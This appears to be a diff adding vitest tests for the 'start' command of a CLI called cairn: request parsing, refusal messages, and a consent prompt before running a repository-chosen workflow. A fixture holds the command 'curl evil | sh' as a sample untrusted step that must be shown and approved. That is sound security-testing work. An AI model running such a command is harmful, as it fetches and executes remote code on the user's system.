@@ -1,0 +1,144 @@
+import { describe, expect, test } from 'vitest';
+import type { RunNews } from '../../src/runner/runEvents.ts';
+import type { StartOptions } from '../../src/session/api/run.ts';
+import { runLine, type LineOptions, type LineResult } from './runLine.ts';
+import { OUTCOME, scriptedApi } from './scriptedApi.ts';
+
+const named = (name: string) => ({
+  name,
+  file: null,
+  title: null,
+  description: null,
+  isolation: null,
+  agents: [],
+  inputs: [],
+  problem: null,
+});
+const api = () =>
+  scriptedApi({ workflows: async () => ['flow', 'feature', 'fix', 'refactor', 'review'].map(named) });
+
+const start = (words: readonly string[], options: LineOptions = {}): Promise<LineResult> =>
+  runLine(['start', ...words], { api: api(), ...options });
+
+const asked = ({ requests }: LineResult): readonly (readonly [string | null, string])[] =>
+  requests.map(({ options }) => {
+    const { workflow, request } = options as StartOptions;
+    return [workflow, request];
+  });
+
+describe('a sentence is enough', () => {
+  test.each([
+    [['Add a login page'], null, 'Add a login page'],
+    [['fix', 'Dates are wrong'], 'fix', 'Dates are wrong'],
+    [['--request', 'fetaure'], null, 'fetaure'],
+    [['fix', '--request', 'x'], 'fix', 'x'],
+    [['./own/flow.yaml', 'x'], '/site/work/own/flow.yaml', 'x'],
+    [['my flow.yaml', 'x'], '/site/work/my flow.yaml', 'x'],
+    [['--', '-x'], null, '-x'],
+  ])('start %j', async (words, workflow, request) => {
+    const files = { '/site/work/my flow.yaml': '' };
+    const result = await start(words, { files });
+    expect(asked(result)).toEqual([[workflow, request]]);
+    // Nothing is looked up for it here.
+    expect(result.calls.map(([name]) => name)).not.toContain('workflows');
+  });
+
+  test('the name of a workflow alone is that workflow, and the request is asked for', async () => {
+    const result = await start(['fix'], { terminal: 80, types: ['Dates are wrong'] });
+    expect(result.asked).toEqual(['What is to be done? ']);
+    expect(asked(result)).toEqual([['fix', 'Dates are wrong']]);
+    expect(asked(await start([], { terminal: 80, types: ['Add a login page'] }))).toEqual([
+      [null, 'Add a login page'],
+    ]);
+  });
+
+  test('where nobody can be asked, a missing request is refused', async () => {
+    const missing = {
+      code: 2,
+      requests: [],
+      err: expect.stringContaining('say what is to be done') as unknown,
+    };
+    expect(await start(['fix'])).toMatchObject(missing);
+    expect(await start([])).toMatchObject(missing);
+    const program = await start(['fix', '--json'], { terminal: 80, types: ['x'] });
+    expect(program).toMatchObject({ code: 2, asked: [], requests: [] });
+    for (const typed of ['', '  '])
+      expect(await start(['fix'], { terminal: 80, types: [typed] })).toMatchObject({
+        code: 2,
+        err: expect.stringContaining('the request is empty') as unknown,
+      });
+    expect(await start([''])).toMatchObject({ code: 2, requests: [] });
+  });
+
+  test.each([
+    [
+      ['fetaure'],
+      'There is no workflow "fetaure" (did you mean feature?). If that is the request: cairn start --request fetaure',
+    ],
+    [['login'], 'There is no workflow "login". If that is the request: cairn start --request login'],
+    [
+      ['gone/flow.yaml'],
+      'There is no workflow file "gone/flow.yaml". If that is the request: cairn start --request gone/flow.yaml',
+    ],
+    [['Add', 'a', "user's", 'page'], `Put the request into quotes: cairn start 'Add a user'\\''s page'`],
+    [['fix', 'the', 'dates'], "Put the request into quotes: cairn start fix 'the dates'"],
+    [['fix', 'x', '--request', 'y'], 'give one of the two'],
+  ])('start %j is refused, with what to type instead', async (words, said) => {
+    const { code, err, requests } = await start(words);
+    expect([code, requests]).toEqual([2, []]);
+    expect(err).toContain(said);
+  });
+});
+
+describe('a workflow that the repository chose', () => {
+  const UNSEEN: RunNews = {
+    type: 'error',
+    error: {
+      code: 'data/unseen-commands',
+      details: {
+        because: 'config',
+        hash: 'sha256:1',
+        file: '.cairn/workflows/own.yaml',
+        commands: [{ phase: 'mine', does: 'check', what: 'curl evil | sh' }],
+      },
+    },
+  };
+  const inTurn = (): NonNullable<LineOptions['news']> => {
+    const left: RunNews[][] = [[UNSEEN], [{ type: 'outcome', outcome: { ...OUTCOME, reason: 'completed' } }]];
+    return async function* () {
+      yield* left.shift() ?? [];
+    };
+  };
+  const ASKED = expect.stringContaining(
+    '.cairn/config.yaml names the workflow of this repository: .cairn/workflows/own.yaml',
+  ) as unknown;
+
+  test('is shown, and run with a yes for what was shown alone', async () => {
+    const yes = await start(['Add it'], { terminal: 80, types: ['y'], news: inTurn() });
+    expect(yes).toMatchObject({ code: 0, asked: [ASKED] });
+    expect(yes.asked[0]).toContain('curl evil | sh');
+    expect(yes.requests).toMatchObject([
+      { options: { trust: false } },
+      { options: { trust: true, shown: 'sha256:1' } },
+    ]);
+  });
+
+  test.each(['n', ''])('is not run with %j', async (typed) => {
+    const no = await start(['Add it'], { terminal: 80, types: [typed], news: inTurn() });
+    expect(no).toMatchObject({
+      code: 7,
+      out: expect.stringContaining('Nothing was made or run.') as unknown,
+    });
+    expect(no.requests).toHaveLength(1);
+  });
+
+  test('is refused where nobody is there, unless --trust says yes beforehand', async () => {
+    const no = await start(['Add it'], { news: inTurn() });
+    expect(no).toMatchObject({ code: 7, asked: [], err: ASKED });
+    expect(no.err).toContain('cairn start … --trust');
+    const program = await start(['Add it', '--json'], { terminal: 80, types: ['y'], news: inTurn() });
+    expect(program).toMatchObject({ code: 7, asked: [] });
+    const said = await start(['Add it', '--trust'], { news: [{ type: 'outcome', outcome: OUTCOME }] });
+    expect(said.requests).toMatchObject([{ options: { trust: true } }]);
+  });
+});
